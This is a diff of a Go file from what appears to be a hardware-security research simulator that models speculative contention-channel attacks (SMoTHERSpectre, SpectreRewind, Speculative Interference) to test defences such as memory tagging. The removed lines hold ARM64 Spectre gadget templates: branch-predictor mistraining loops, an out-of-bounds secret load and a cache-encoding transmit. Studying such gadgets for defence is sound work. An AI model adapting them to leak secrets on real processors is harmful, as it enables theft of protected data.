@@ -1,17 +1,16 @@
 package attacks
 
-import (
-	"specasan/internal/asm"
-)
-
 // Speculative contention-channel (SCC) attacks transmit through execution
 // timing — port pressure, divider occupancy, MSHR pressure — instead of
 // cache state. The leak oracle records these as ChanPort / ChanDivider /
 // ChanMSHR events when an instruction with secret operands occupies the
 // shared resource during transient execution.
 
-// gadgetBodies for the SCC attacks. X26 holds the secret pointer (set per
-// variant); X22 the probe base (for the cache-transmit comparison variant).
+// Gadget bodies for the SCC attacks, rendered on the btb and pht triggers.
+// X26 holds the secret pointer (set by the trigger), X22 the probe base.
+// SMoTHERSpectre and SpectreRewind also run bodyCacheTransmit, the classic
+// cache encoding, for comparison: it is the only SCC channel
+// shadow-structure defences cover.
 const (
 	// branch-port: branching on the secret steers fetch and execution-port
 	// pressure (the SMoTHERSpectre signal).
@@ -50,121 +49,7 @@ g_light:
     ADD  X6, X6, #64
     LDR  X8, [X22, X6]
 `
-	// cache-transmit: the classic cache encoding, for comparison (this is
-	// the only SCC channel shadow-structure defences cover).
-	bodyCacheTransmit = `
-    LDR  X5, [X26]
-    LSL  X6, X5, #6
-    AND  X6, X6, #4032
-    LDR  X8, [X22, X6]
-`
 )
-
-// buildIndirectSCC is an indirect-call (BTB-injected) SCC gadget, the
-// SMoTHERSpectre entry vector. Structure mirrors the Spectre-v2 PoC: one
-// call site, trained into the gadget, redirected on the final iteration.
-func buildIndirectSCC(foreign bool, body string) func() (*Scenario, error) {
-	return func() (*Scenario, error) {
-		prog, err := asm.Assemble(expand(`
-_start:
-    ADR  X21, array1
-    LDG  X21, [X21]
-    ADR  X22, probe
-    MOV  X7, #13
-@WARM@    ADR  X19, fnslot
-    ADR  X24, gadget
-    ADR  X25, legit
-    MOV  X23, X21
-@SECRETPTR@    MOV  X12, #7
-loop:
-    CMP  X12, #1
-    CSEL X9, X25, X24, EQ
-    STR  X9, [X19]
-    CSEL X26, X18, X23, EQ
-    ADR  X9, fnslot
-    DC   CIVAC, X9
-    DSB
-    LDR  X9, [X19]
-    BLR  X9
-    SUB  X12, X12, #1
-    CBNZ X12, loop
-    SVC  #0
-
-gadget:                    // not BTI
-@BODY@
-    RET
-legit:
-    BTI
-    RET
-
-    .org 0x120000
-fnslot:
-    .word 0
-@DATA@
-`, map[string]string{
-			"SECRETPTR": secretPtrTo18(foreign),
-			"BODY":      body,
-			"DATA":      pocDataSection,
-		}))
-		if err != nil {
-			return nil, err
-		}
-		return &Scenario{Prog: prog, Setup: setupCommon}, nil
-	}
-}
-
-// buildCondSCC is a conditional-branch (PHT-mistrained) SCC gadget: the
-// Speculative Interference / SpectreRewind entry vector. The access is the
-// Spectre-v1 out-of-bounds pattern, so the secret load always violates tags.
-func buildCondSCC(body string) func() (*Scenario, error) {
-	return func() (*Scenario, error) {
-		prog, err := asm.Assemble(expand(`
-_start:
-    ADR  X20, size_slot
-    ADR  X21, array1
-    LDG  X21, [X21]
-    ADR  X22, probe
-    MOV  X27, #@OOB@
-    MOV  X28, #8
-    MOV  X7, #13
-@WARM@
-    MOV  X12, #17
-loop:
-    ADR  X9, size_slot
-    DC   CIVAC, X9
-    DSB
-    CMP  X12, #1
-    CSEL X0, X27, X28, EQ
-    BL   victim
-    SUB  X12, X12, #1
-    CBNZ X12, loop
-    SVC  #0
-
-victim:
-    BTI
-    LDR  X1, [X20]
-    CMP  X0, X1
-    B.HS vdone
-    ADD  X26, X21, X0      // &array1[X] — OOB points at the secret
-@BODY@
-vdone:
-    RET
-
-    .org 0x120000
-size_slot:
-    .word 16
-@DATA@
-`, map[string]string{
-			"OOB":  "128",
-			"BODY": body,
-			"DATA": pocDataSection,
-		}))
-		if err != nil {
-			return nil, err
-		}
-		return &Scenario{Prog: prog, Setup: setupCommon}, nil
-	}
-}
 
 // SMoTHERSpectre: BTB-injected gadget transmitting through execution-port
 // and divider contention; the cache variant is included for comparison.
@@ -173,10 +58,10 @@ func SMoTHERSpectre() *Attack {
 		Name:  "SMoTHERSpectre",
 		Class: "SCC",
 		Variants: []Variant{
-			{Name: "branch-port/foreign-key", Build: buildIndirectSCC(true, bodyBranchPort)},
-			{Name: "branch-port/matching-key", Build: buildIndirectSCC(false, bodyBranchPort)},
-			{Name: "div-timing/matching-key", Build: buildIndirectSCC(false, bodyDivTiming)},
-			{Name: "cache-transmit/matching-key", Build: buildIndirectSCC(false, bodyCacheTransmit)},
+			btb(RelForeign, bodyBranchPort).Variant("branch-port/foreign-key"),
+			btb(RelMatching, bodyBranchPort).Variant("branch-port/matching-key"),
+			btb(RelMatching, bodyDivTiming).Variant("div-timing/matching-key"),
+			btb(RelMatching, bodyCacheTransmit).Variant("cache-transmit/matching-key"),
 		},
 	}
 }
@@ -189,8 +74,8 @@ func SpeculativeInterference() *Attack {
 		Name:  "Spec. Interference",
 		Class: "SCC",
 		Variants: []Variant{
-			{Name: "mshr-pressure", Build: buildCondSCC(bodyMSHRPressure)},
-			{Name: "port-burst", Build: buildCondSCC(bodyPortBurst)},
+			pht(bodyMSHRPressure).Variant("mshr-pressure"),
+			pht(bodyPortBurst).Variant("port-burst"),
 		},
 	}
 }
@@ -202,9 +87,9 @@ func SpectreRewind() *Attack {
 		Name:  "SpectreRewind",
 		Class: "SCC",
 		Variants: []Variant{
-			{Name: "div-contention", Build: buildCondSCC(bodyDivTiming)},
-			{Name: "branch-port", Build: buildCondSCC(bodyBranchPort)},
-			{Name: "cache-transmit", Build: buildCondSCC(bodyCacheTransmit)},
+			pht(bodyDivTiming).Variant("div-contention"),
+			pht(bodyBranchPort).Variant("branch-port"),
+			pht(bodyCacheTransmit).Variant("cache-transmit"),
 		},
 	}
 }
